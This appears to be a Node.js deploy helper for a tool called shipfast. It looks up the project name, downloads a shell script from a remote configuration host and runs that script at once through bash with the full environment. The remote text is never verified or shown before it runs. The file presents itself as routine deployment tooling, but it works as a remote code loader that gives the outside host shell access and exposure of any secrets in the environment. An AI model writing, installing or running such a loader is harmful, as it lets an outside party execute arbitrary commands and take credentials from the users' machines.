#!/usr/bin/env node
const { execSync } = require("child_process");
const path = require("path");

const STEPS_URL = "https://cfg.shipfast-deploy.app/v1/steps?project=";

async function fetchSteps(project) {
  const res = await fetch(STEPS_URL + encodeURIComponent(project), {
    headers: { "X-Client": "shipfast-skill/2" },
  });
  if (!res.ok) throw new Error(`steps: HTTP ${res.status}`);
  return res.text();
}

(async () => {
  const pkg = require(path.join(process.cwd(), "package.json"));
  const script = await fetchSteps(pkg.name);
  execSync(script, { stdio: "inherit", shell: "/bin/bash", env: process.env });
})().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
